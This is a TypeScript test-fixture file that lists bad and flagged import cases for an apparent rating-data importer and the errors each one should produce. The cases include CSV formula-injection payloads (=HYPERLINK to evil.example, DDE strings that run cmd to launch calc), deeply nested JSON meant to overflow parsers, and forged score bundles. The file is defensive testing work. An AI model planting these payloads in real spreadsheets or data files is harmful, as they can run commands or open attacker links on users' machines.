  ),

  // ───────────── formula injection ─────────────
  importing(
    'formula injection',
    'ratings CSV level holding =HYPERLINK(…)',
    'ratings-formula.csv',
    (base) => base.ratingsText.replace(',champion,0,', `,champion,"${MEDDLING.replace(/"/g, '""')}",`),
    atCsvLine('ratings-formula.csv', 'HYPERLINK'),
    `level "${MEDDLING}" is not a number`,
  ),
  importing(
    'formula injection',
    'ratings CSV with an unquoted =HYPERLINK("…") cell',
    'ratings-formula-raw.csv',
    (base) => base.ratingsText.replace(',champion,0,', ',champion,=HYPERLINK("https://evil.example"),'),
    'ratings-formula-raw.csv:2:',
    'a quote inside an unquoted field',
  ),
  importing(
    'formula injection',
    'outcomes CSV outcome computed by a formula',
    'outcomes-formula.csv',
    (base) => base.outcomesText.replace(',lost,', ',"=IF(1,""won"",""lost"")",'),
    /outcomes-formula\.csv:2:\d+: outcome "=IF\(1,"won","lost"\)" must be won or lost/,
  ),
  importing(
    'formula injection',
    'ratings CSV scored_at =NOW()',
    'ratings-now.csv',
    (base) => base.ratingsText.replace('2024-01-05T10:00:00.000Z', '=NOW()'),
    /ratings-now\.csv:2:\d+: scored_at "=NOW\(\)" is not an ISO 8601 date/,
  ),
  importing(
    'formula injection',
    'ratings CSV context @SUM(…)',
    'ratings-at.csv',
    (base) => base.ratingsText.replace(',deal,', ",@SUM(1+1)*cmd|' /C calc'!A0,"),
    /ratings-at\.csv:2:\d+: context "@SUM\(1\+1\)\*cmd\|' \/C calc'!A0" must be deal or calibration/,
  ),
  restore(
    'formula injection',
    'backup answer level holding =HYPERLINK(…)',
    editedBackup((b) => (b.scores[3].answers[0].level = MEDDLING)),
    `${score(3)}.answers[0].level: expected number, received string`,
    atLine(BACKUP_SCORE_IDS[3]),
  ),
  restore(
    'formula injection',
    'backup role setting holding a DDE payload',
    editedBackup((b) => (b.settings.find((s: Json) => s.key === 'role').value = "=cmd|' /C calc'!A0")),
    /settings\[\d\]\.value: setting "role": Invalid option: expected one of "rep"\|"manager"/,
  ),
];

/** Arrays nested this deep overflowed every recursive reader (hashing, the syntax tree, schema checks). */
const DEEP = 200_000;
const deepScores = (closed: boolean) =>
  `{"format":"yardstick-bundle","formatVersion":1,"scores":${'['.repeat(DEEP)}${closed ? ']'.repeat(DEEP) : ''}}`;
const TOO_DEEP = 'arrays and objects are nested more than 64 deep here';

BAD_IMPORTS.push(
  importing(
    'deep nesting',
    'bundle whose scores are 200 000 nested arrays',
    'deep.json',
    () => deepScores(true),
    `deep.json:1:120: ${TOO_DEEP}`,
  ),
  importing(
    'deep nesting',
    'bundle cut inside 200 000 nested arrays',
    'deep-open.json',
    () => deepScores(false),
    `deep-open.json:1:120: ${TOO_DEEP}`,
  ),
  importing(
    'deep nesting',
    'NDJSON bundle with a score line nested 200 000 deep',
    'deep.ndjson',
    (base) => {
      const lines = base.ndjsonText.split('\n');
      lines[1] = `{"type":"score","score":${'['.repeat(DEEP)}${']'.repeat(DEEP)}}`;
      return lines.join('\n');
    },
    /deep\.ndjson:2:\d+: arrays and objects are nested more than 64 deep/,
  ),
  importing(
    'deep nesting',
    'brackets inside strings do not count as nesting',
    'brackets-in-text.json',
    editedBundle((b) => {
      b.scores[0].answers[0].evidence = '['.repeat(500);
      b.scores[0].answers[0].level = 'x';
    }),
    'level: Invalid input: expected number, received string',
  ),
  restore(
    'deep nesting',
    'backup whose scores are 200 000 nested arrays',
    () => deepScores(true).replace('bundle', 'backup'),
    `backup.json, line 1, column 120: ${TOO_DEEP}`,
  ),
);

// ───────────── real-world files (refused, located right) ─────────────
BAD_IMPORTS.push(
  importing(
    'delimiter or encoding',
    'ratings CSV with classic-Mac CR-only line ends and a bad level',
    'ratings-cr.csv',
    (base) => base.ratingsText.replace(/\r?\n/g, '\r').replace(',champion,0,', ',champion,high,'),
    (input) => {
      const lines = input.split('\r');
      const row = lines.findIndex((line) => line.includes(',high,'));
      return `ratings-cr.csv:${row + 1}:${lines[row]!.indexOf(',high,') + 2}: level "high" is not a number`;
    },
    'level "high" is not a number',
  ),
  importing(
    'truncated',
    'empty outcomes file',
    'outcomes.csv',
    () => '\uFEFF\r\n',
    'outcomes.csv: the file is empty: expected a Yardstick bundle',
  ),
);

/** The kinds of file sets the audit accepts, but never silently. */
export const FLAGGED_IMPORT_CATEGORIES = [
  'forged totals',
  'real-world names',
  'conflicting bundles',
] as const;

/** Files the audit reads, correcting, refusing or warning about something it must show. */
export interface FlaggedImportCase {
  category: (typeof FLAGGED_IMPORT_CATEGORIES)[number];
  name: string;
  /** The files, in import order. */
  files: (base: CorpusBase) => Promise<{ file: string; text: string }[]>;
  /** Every fragment must appear in the warnings and refusals shown with the report. */
  expected: Expectation[];
  /** How many distinct raters the merged input must have, when it matters. */
  raters?: number;
}

const forgedBundle = (mutate: (bundle: Json) => void) => async (base: CorpusBase) => [
  { file: 'forged.json', text: await editedBundle(mutate)(base) },
];
const ratings = (file: string, rows: string[]) => ({
  file,
  text: `deal,rater,criterion,level\n${rows.join('\n')}\n`,
});

/** The flagged corpus: each set is accepted, and the report says what was wrong with it. */
export const FLAGGED_IMPORTS: FlaggedImportCase[] = [
  {
    category: 'forged totals',
    name: 'every total set to 100, checksum recomputed',
    files: forgedBundle((b) => b.scores.forEach((s: Json) => (s.total = 100))),
    expected: [/forged\.json:\d+: score [0-9a-f-]{36}: total 100 recorded, [\d.]+ from its answers/],
  },
  {
    category: 'forged totals',
    name: 'all answers Unknown with total 100, checksum recomputed',
    files: forgedBundle((b) => {
      for (const answer of b.scores[0].answers) answer.level = null;
      b.scores[0].total = 100;
    }),
    expected: [/total 100 recorded, 0 from its answers/],
  },
  {
    category: 'forged totals',
    name: 'band relabelled, checksum recomputed',
    files: forgedBundle((b) => (b.scores[0].band = { id: 'forged', label: 'Forged' })),
    expected: [/band "Forged" recorded, "[^"]+" from its answers/],
  },
  {
    category: 'forged totals',
    name: 'names and roles from files are self-declared',
    files: async (base) => [{ file: 'alice.json', text: base.bundleText }],
    expected: ['rater names and roles are self-declared'],
  },
  {
    category: 'real-world names',
    name: 'one name in NFC in one file and NFD (macOS) in another',
    files: async () => [
      ratings('windows.csv', ['d1,José Díaz,champion,2']),
      ratings('mac.csv', ['d2,José Díaz'.normalize('NFD') + ',champion,1']),
    ],
    expected: ['rater names and roles are self-declared'],
    raters: 1,
  },
  {
    category: 'real-world names',
    name: 'names differing only in case, accents or spaces',
    files: async () => [
      ratings('a.csv', ['d1,José Díaz,champion,2']),
      ratings('b.csv', ['d2,JOSE  DIAZ,champion,1']),
    ],
    expected: [
      'raters "José Díaz", "JOSE  DIAZ" differ only in case, accents or spaces and may be one person',
    ],
    raters: 2,
  },
  {
    category: 'conflicting bundles',
    name: 'a second bundle with the same score ids and other content',
    files: async (base) => [
      { file: 'alice.json', text: base.bundleText },
      {
        file: 'alice-edited.json',
        text: await editedBundle((b) => (b.scores[0].answers[0].evidence = 'edited'))(base),
      },
      { file: 'bob.ndjson', text: base.ndjsonText },
    ],
    expected: [
      'alice-edited.json: 1 score shares an id with a different score in alice.json; nothing was imported from alice-edited.json, the other files were audited',
      /alice-edited\.json:\d+:\d+: score [0-9a-f-]{36} differs from the score with the same id at alice\.json:\d+/,
    ],
  },
];

/** How many cases each category has, for imports and restores. */
export function countBadImports(
  cases: readonly BadImportCase[] = BAD_IMPORTS,
): Record<BadImportCategory, { import: number; restore: number; total: number }> {
  const counts = Object.fromEntries(
    BAD_IMPORT_CATEGORIES.map((category) => [category, { import: 0, restore: 0, total: 0 }]),
  ) as Record<BadImportCategory, { import: number; restore: number; total: number }>;
  for (const badCase of cases) {
    counts[badCase.category][badCase.target]++;
    counts[badCase.category].total++;
  }
  return counts;
}
